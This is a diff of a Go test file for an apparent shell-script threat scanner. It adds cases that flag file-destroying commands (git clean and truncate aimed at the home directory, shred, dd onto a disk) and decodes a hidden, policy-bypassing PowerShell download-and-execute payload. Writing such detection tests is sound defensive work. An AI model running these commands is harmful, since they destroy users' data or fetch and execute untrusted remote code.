@@ -74,6 +74,17 @@ var threatCases = []struct {
 	{"find . into xargs rm", "find . -name '*.tmp' | xargs rm -f\n", nil},
 	{"find node_modules under ~/projects", "find ~/projects -name node_modules -type d -prune -exec rm -rf {} +\n", nil},
 	{"find . -delete", "find . -name '*.pyc' -delete\n", nil},
+	{"cd ~, git init, git clean -xffd", "cd ~ && git init -q .\ngit clean -xffd\n", []string{"destroy-files git 2"}},
+	{"git -C ~ clean", "git -C \"$HOME\" clean --force -d -x\n", []string{"destroy-files git 1"}},
+	{"git --work-tree=$HOME clean", "git --git-dir=/tmp/g --work-tree=$HOME clean -fd\n", []string{"destroy-files git 1"}},
+	{"GIT_WORK_TREE=~ git clean", "GIT_WORK_TREE=~ git clean -fdx\n", []string{"destroy-files git 1"}},
+	{"git clean in the project", "git clean -xfd\ncd \"$HOME/src/app\" && git clean -fdx\n", nil},
+	{"git clean -n in home", "cd ~\ngit clean -ndx\n", nil},
+	{"truncate a home glob", "truncate -s 0 ~/Documents/*\n", []string{"destroy-files truncate 1"}},
+	{"find ~ -exec truncate", "find \"$HOME\" -type f -exec truncate -s 0 {} \\;\n", []string{"destroy-files find 1"}},
+	{"find ~ into xargs truncate", "find ~ -name '*.docx' -print0 | xargs -0 truncate --size=0\n", []string{"destroy-files xargs 1"}},
+	{"truncate a log", "truncate -s 0 ~/.cache/app/app.log\ntruncate -s 0 ./logs/*\n", nil},
+	{"find a cache folder -exec truncate", "find ~/.cache/app -name '*.log' -exec truncate -s 0 {} +\n", nil},
 	{"shred a home file", "shred -u ~/.bash_history\n", []string{"destroy-files shred 1"}},
 	{"shred a temp file", "shred -u /tmp/key\n", nil},
 	{"dd onto a disk", "dd if=/dev/urandom of=/dev/sda bs=1M\n", []string{"wipe-disk dd 1"}},
@@ -224,5 +235,62 @@ func TestDangerous(t *testing.T) {
 		if got := dangerous(p) != ""; got != want {
 			t.Errorf("dangerous(%q) = %v, want %v", p, got, want)
 		}
+	}
+}
+
+// TestInline: the programs a script gives other interpreters, with the line
+// of their first line: -c/-e words, clustered Perl flags, here-documents and
+// here-strings read as the program, and a nested sh -c's at its own line.
+func TestInline(t *testing.T) {
+	src := `python3 -c 'print(1)'
+node --eval "console.log(2)"
+perl -lne 'print if /x/' f.txt
+python3 tool.py -c 'not code'
+python3 - <<'PY'
+import os
+PY
+ruby <<< 'puts 3'
+sh -c "node -e 'x()'"
+python3 script.py <<PY
+data, not code
+PY
+`
+	s, err := Analyze([]byte(src), "t.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, in := range s.Inline {
+		got = append(got, fmt.Sprintf("%s@%d/%v %q", in.Interp, in.Line, in.Fixed, in.Code))
+	}
+	want := []string{
+		`python3@1/false "print(1)"`,
+		`node@2/false "console.log(2)"`,
+		`perl@3/false "print if /x/"`,
+		`python3@6/false "import os\n"`,
+		`ruby@8/false "puts 3"`,
+		`node@9/true "x()"`,
+	}
+	if !slices.Equal(got, want) {
+		t.Fatalf("inline\n%q\nwant\n%q", got, want)
+	}
+}
+
+// TestInlineEncodedCommand: pwsh's -EncodedCommand (any prefix, after
+// options with values) is decoded from base64 of UTF-16LE into the program.
+func TestInlineEncodedCommand(t *testing.T) {
+	enc := "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA" // IEX (iwr http://x)
+	src := "powershell.exe -NoP -ExecutionPolicy Bypass -w hidden -enc " + enc + "\npwsh -EncodedCommand " + enc + "\npwsh -File a.ps1 -enc " + enc + "\n"
+	s, err := Analyze([]byte(src), "t.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, in := range s.Inline {
+		got = append(got, fmt.Sprintf("%s@%d/%v %q", in.Interp, in.Line, in.Fixed, in.Code))
+	}
+	want := []string{`powershell.exe@1/true "IEX (iwr http://x)"`, `pwsh@2/true "IEX (iwr http://x)"`}
+	if !slices.Equal(got, want) {
+		t.Fatalf("inline %q; want %q", got, want)
 	}
 }
